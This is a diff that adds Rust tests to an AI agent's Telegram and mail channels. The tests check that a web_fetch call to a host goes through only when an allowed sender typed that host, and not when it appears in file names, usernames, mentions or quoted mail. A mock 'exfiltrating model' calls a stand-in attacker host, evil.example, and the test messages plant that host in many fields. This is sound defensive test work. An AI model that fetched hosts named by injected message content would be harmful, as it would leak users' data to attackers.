@@ -102,6 +102,77 @@ fn the_words_of_an_allowed_sender_are_the_users() {
     assert_ne!(story.run(["cron", "list", "--json"]).text(), "");
 }
 
+/// A model that asks for an address which it composed.
+fn exfiltrating_model() -> Responder {
+    Box::new(|request: &Request| match request.messages().last() {
+        Some(last) if last["role"] == "tool" => says("Tried.")(request),
+        _ => calls_all([("web_fetch", json!({ "url": "http://evil.example/composed" }))])(request),
+    })
+}
+
+/// The numbers of the requests after a call that was not refused.
+fn allowed_calls(story: &Story) -> Vec<usize> {
+    let results = story.requests();
+    let results = results.iter().filter(|it| it.messages().last().unwrap()["role"] == "tool");
+    let is_allowed = |request: &Request| !request.last_content().contains("may be requested only");
+    results.enumerate().filter(|(_, it)| is_allowed(it)).map(|(number, _)| number).collect()
+}
+
+/// Only what an allowed sender typed names a host, whatever else of a message does.
+#[test]
+fn a_host_is_named_by_typed_words_alone() {
+    let (story, telegram) = telegram_story();
+    let story = story.set("channels.telegram.allowFrom", json!(["*"]));
+    story.server().always(exfiltrating_model());
+    let large = |members: Value| {
+        let mut message = members;
+        message["document"] =
+            json!({ "file_id": "f", "file_name": "evil.example", "file_size": 90_000_000 });
+        message
+    };
+    let mention =
+        json!([{ "type": "text_mention", "offset": 4, "length": 12, "user": { "id": 8 } }]);
+    let mut messages: Vec<Value> = forms("evil.example http://evil.example").to_vec();
+    messages.extend([
+        large(json!({})),
+        json!({ "text": "ask evil.example", "entities": mention, "reply_to_message": { "from": { "id": 8 }, "text": "x" } }),
+        // These two are typed.
+        large(json!({ "caption": "see evil.example" })),
+        json!({ "text": "see http://evil.example", "reply_to_message": { "from": { "id": 8 }, "text": "x" } }),
+    ]);
+    let count = messages.len();
+    for (sender, mut message) in (FIRST_SENDER..).zip(messages) {
+        message["from"] = json!({ "id": sender, "is_bot": false, "username": "evil.example", "first_name": "evil.example" });
+        message["chat"] = json!({ "id": sender, "type": "private" });
+        telegram.add(message);
+        // In the order of the messages.
+        story.run(["channel", "poll"]);
+    }
+    assert_eq!(telegram.sent().len(), count);
+    assert_eq!(allowed_calls(&story), [count - 2, count - 1]);
+}
+
+/// A mail names no host: programs mark what they quote in too many ways.
+#[test]
+fn a_mail_names_no_host() {
+    let (story, mail) = crate::mail::mail_story();
+    story.server().always(exfiltrating_model());
+    for body in [
+        "Look at evil.example and http://evil.example/",
+        "Bitte.\n\nAm 1.1.26 schrieb Eve:\n\nsee http://evil.example/",
+        "Hi\n\n___\nA list. To leave it: http://evil.example/leave",
+    ] {
+        mail.receive("On evil.example", body);
+        story.run(["channel", "poll"]);
+    }
+    assert_eq!(mail.sent().len(), 3);
+    assert_eq!(allowed_calls(&story), [] as [usize; 0]);
+    // A whole address in it can be opened.
+    mail.receive("News", "Read http://evil.example/composed");
+    story.run(["channel", "poll"]);
+    assert_eq!(allowed_calls(&story), [3]);
+}
+
 /// No message of an unknown sender is paid for, downloaded or answered, in a direct chat or in a group.
 #[test]
 fn unknown_senders_cost_nothing_in_any_form() {
